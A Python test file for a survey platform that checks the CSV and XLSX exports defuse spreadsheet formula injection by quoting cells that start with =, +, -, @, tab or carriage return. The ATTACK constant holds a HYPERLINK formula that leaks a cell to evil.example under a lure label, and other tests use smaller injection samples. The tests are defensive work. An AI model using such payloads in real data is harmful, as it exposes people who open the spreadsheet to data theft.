"""CSV exports opened in a spreadsheet program: text a person typed that would run as a formula (=, +, -, @,
tab, carriage return first) is written with a leading single quote — the survey results CSV and the
statistics CSV; in the statistics XLSX such text is a string cell, never a formula."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from engine.bootstrap import Platform
from engine.domain.spreadsheet_cells import safe_cell
from engine.services.stats_export import to_csv, to_xlsx
from tests.conftest import ADMIN
from tests.webapp.test_workbench import sign_in

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取补贴")'


def test_a_formula_answer_is_exported_as_text(app: Flask, client: FlaskClient, deployed: Platform) -> None:
    questions = [{"kind": "scale", "title": "总体评价"}, {"kind": "text", "title": "意见", "required": False}]
    survey = deployed.surveys.create(ADMIN, {"title": "满意度", "questions": questions})
    deployed.surveys.move(ADMIN, survey["id"], "open")
    deployed.surveys.respond(survey["id"], {"q1": "5", "q2": ATTACK})
    deployed.surveys.respond(survey["id"], {"q1": "4", "q2": "-1 分，太慢"})
    deployed.surveys.respond(survey["id"], {"q1": "3", "q2": "很好 =)"})
    sign_in(client, "admin")
    response = client.get(f"/surveys/{survey['id']}/results.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    texts = [row[-1] for row in rows[1:]]
    assert sorted(texts) == sorted(["'" + ATTACK, "'-1 分，太慢", "很好 =)"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_statistics_csv_quotes_a_formula_like_label() -> None:
    report = {
        "from": "2026-03-01", "to": "2026-03-31",
        "metrics": [{"key": "received", "zh": "收件", "unit": "count"}],
        "groups": {"officer": [{"key": "@evil", "label": "+SUM(1,1)", "figures": {"received": 3}}]},
        "totals": {"received": 3},
    }  # fmt: skip
    rows = list(csv.reader(io.StringIO(to_csv(report, "officer").decode("utf-8-sig"))))
    assert rows[1][2:] == ["'@evil", "'+SUM(1,1)", "3"]


def test_only_formula_starts_are_quoted() -> None:
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert [safe_cell(v) for v in ("张三", "a=b", "", -1, 2.5, None)] == ["张三", "a=b", "", -1, 2.5, None]


def test_the_statistics_xlsx_keeps_a_formula_like_name_as_text() -> None:
    report = {
        "from": "2026-03-01", "to": "2026-03-31",
        "metrics": [{"key": "received", "zh": "收件", "en": "Received", "unit": "count", "basis": "cohort",
                     "definition": "=定义"}],
        "groups": {"department": [{"key": "=1+1", "label": "=1+1", "figures": {"received": 3}}],
                   "item": [{"key": "@SUM(A1)", "label": "-2+3", "figures": {"received": 3}}]},
        "totals": {"received": 3},
    }  # fmt: skip
    book = load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    department = book["按部门"]
    assert (department["A2"].value, department["B2"].value, department["C2"].value) == ("'=1+1", "'=1+1", 3)
    assert department["A2"].data_type == "s" and department["C2"].data_type == "n"
    assert (book["按事项"]["A2"].value, book["按事项"]["B2"].value) == ("'@SUM(A1)", "'-2+3")
